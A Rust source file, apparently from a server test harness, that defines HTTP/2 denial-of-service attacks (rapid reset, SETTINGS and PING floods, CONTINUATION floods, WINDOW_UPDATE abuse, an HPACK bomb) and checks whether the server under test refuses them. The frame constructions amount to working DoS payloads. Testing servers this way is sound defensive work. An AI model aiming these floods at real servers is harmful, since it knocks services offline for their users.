//! Callers of HTTP/2 that send much and mean nothing.

use super::at_once;
use crate::{
    frame::{Arena, Attack, Outcome, counted, ensure},
    http2::{
        ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, Flooded, GET, HEADERS, PING, PRIORITY, RST_STREAM,
        WINDOW_UPDATE, connect, flood, frame, post, settings,
    },
};

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        Attack::new("server", "http2-rapid-reset", |arena| Box::pin(rapid_reset(arena))),
        Attack::new("server", "http2-resets-by-the-server", |arena| Box::pin(made_you_reset(arena))),
        Attack::new("server", "http2-settings-flood", |arena| {
            Box::pin(questions(arena, settings(&[(4, 65_535)])))
        })
        .settings(&[("write_ms", 600)]),
        Attack::new("server", "http2-ping-flood", |arena| {
            Box::pin(questions(arena, frame(PING, 0, 0, b"12345678")))
        })
        .settings(&[("write_ms", 600)]),
        Attack::new("server", "http2-acks-flood", |arena| {
            Box::pin(harmless(arena, frame(PING, ACK, 0, b"12345678")))
        }),
        Attack::new("server", "http2-priority-flood", |arena| {
            Box::pin(harmless(arena, frame(PRIORITY, 0, 3, b"\0\0\0\x01\xff")))
        }),
        Attack::new("server", "http2-empty-data", |arena| Box::pin(empty_data(arena))),
        Attack::new("server", "http2-empty-heads", |arena| Box::pin(empty_heads(arena))),
        Attack::new("server", "http2-continuations", |arena| {
            Box::pin(continuations(arena, b"\x00\x01a\x01b"))
        }),
        Attack::new("server", "http2-empty-continuations", |arena| Box::pin(continuations(arena, b""))),
        Attack::new("server", "http2-window-updates", |arena| Box::pin(window_updates(arena))),
        Attack::new("server", "http2-hpack-bomb", |arena| Box::pin(hpack_bomb(arena))),
    ]
}

/// Floods from several connections, each of `count` parts.
async fn floods<P>(
    arena: &Arena,
    count: u32,
    opening: Vec<u8>,
    part: P,
) -> Result<Vec<Flooded>, crate::frame::Broken>
where
    P: Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static,
{
    let (address, connections) = (arena.address(), arena.pick(2, 16));
    at_once(connections, |_| {
        let (part, opening) = (part.clone(), opening.clone());
        async move {
            let mut line = connect(address, &[]).await?;
            line.send(&opening).await?;
            flood(line, count, part).await
        }
    })
    .await
}

/// All were refused by the server before they were sent whole, or at their end.
fn refused(name: &str, flooded: &[Flooded]) -> Outcome {
    let taken = flooded.iter().filter(|flood| !flood.refused).count();
    ensure!(taken == 0, "{taken} floods of {name} were taken whole");
    let most = flooded.iter().map(|flood| flood.sent).max().unwrap_or_default();
    Ok(format!("{} floods of {name}, refused after at most {most}", flooded.len()))
}

/// Streams that are opened and reset.
async fn rapid_reset(arena: &Arena) -> Outcome {
    let flooded = floods(arena, 50_000, Vec::new(), |n| {
        let stream = 2 * n + 1;
        let head = frame(HEADERS, END_HEADERS | END_STREAM, stream, GET);
        [head, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
    })
    .await?;
    refused("streams opened and reset", &flooded)
}

/// Streams that the server has to reset, as each breaks a rule.
async fn made_you_reset(arena: &Arena) -> Outcome {
    let head = post("/wait");
    let flooded = floods(arena, 50_000, Vec::new(), move |n| {
        let stream = 2 * n + 1;
        let opened = frame(HEADERS, END_HEADERS, stream, &head);
        // A window beyond 2^31 - 1 is an error of the stream.
        [opened, frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes())].concat()
    })
    .await?;
    refused("streams that break a rule", &flooded)
}

/// Frames that have to be answered, from a caller that reads no answer.
async fn questions(arena: &Arena, question: Vec<u8>) -> Outcome {
    let many = question.repeat(100);
    let flooded = floods(arena, arena.pick(2_500, 50_000), Vec::new(), move |_| many.clone()).await;
    // The server stops reading while nobody takes its answers, so that the flood stands still until the server ends it.
    let most = match flooded {
        Ok(flooded) => counted(flooded.iter().map(|flood| flood.sent * 100)),
        Err(error) => return Err(error),
    };
    Ok(format!("questions whose answers nobody reads: {most}"))
}

/// Frames that mean nothing: taken or refused, and nothing is held for them.
async fn harmless(arena: &Arena, one: Vec<u8>) -> Outcome {
    let many = one.repeat(100);
    let count = arena.pick(500, 20_000);
    let flooded = floods(arena, count, Vec::new(), move |_| many.clone()).await?;
    let taken = flooded.iter().filter(|flood| !flood.refused).count();
    Ok(format!("{} floods of {} frames, {taken} taken", flooded.len(), u64::from(count) * 100))
}

async fn empty_data(arena: &Arena) -> Outcome {
    let opening = frame(HEADERS, END_HEADERS, 1, &post("/echo"));
    let empty = frame(DATA, 0, 1, &[]).repeat(10);
    refused("empty DATA", &floods(arena, 50_000, opening, move |_| empty.clone()).await?)
}

/// Heads without fields: each is an error of its stream.
async fn empty_heads(arena: &Arena) -> Outcome {
    let flooded = floods(arena, 50_000, Vec::new(), |n| frame(HEADERS, END_HEADERS, 2 * n + 1, &[])).await?;
    refused("empty HEADERS", &flooded)
}

/// A head that goes on and on.
async fn continuations(arena: &Arena, field: &'static [u8]) -> Outcome {
    let opening = frame(HEADERS, 0, 1, GET);
    let more = frame(CONTINUATION, 0, 1, &field.repeat(3_000)).repeat(if field.is_empty() { 10 } else { 1 });
    refused("CONTINUATION", &floods(arena, 20_000, opening, move |_| more.clone()).await?)
}

/// Windows that grow by nothing, and beyond what a window can be.
async fn window_updates(arena: &Arena) -> Outcome {
    let mut all = Vec::new();
    for (name, by) in [("nothing", 0_u32), ("too much", 0x7fff_ffff)] {
        let flooded =
            floods(arena, 5_000, Vec::new(), move |_| frame(WINDOW_UPDATE, 0, 0, &by.to_be_bytes())).await?;
        all.push(refused(&format!("windows that grow by {name}"), &flooded)?);
    }
    let flooded =
        floods(arena, 2_000, Vec::new(), |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(50))
            .await?;
    all.push(format!("{} floods of windows that grow by 1", flooded.len()));
    Ok(all.join("; "))
}

/// A field of 4 000 bytes in the table of the connection, and heads that name it a thousand times.
async fn hpack_bomb(arena: &Arena) -> Outcome {
    let value = vec![b'a'; 4_000];
    // A literal with incremental indexing: its name `b`, and a value of 4 000 bytes (127 + 3 873).
    let stored = [GET, b"\x40\x01b\x7f\xa1\x1e", &value].concat();
    let opening = frame(HEADERS, END_HEADERS | END_STREAM, 1, &stored);
    let named = [GET, &[0xbe; 16_000][..]].concat();
    let flooded = floods(arena, arena.pick(300, 3_000), opening, move |n| {
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 3, &named)
    })
    .await?;
    Ok(format!(
        "{} connections with heads of 64 MB in 16 KB: {}",
        flooded.len(),
        counted(flooded.iter().map(|flood| flood.sent))
    ))
}
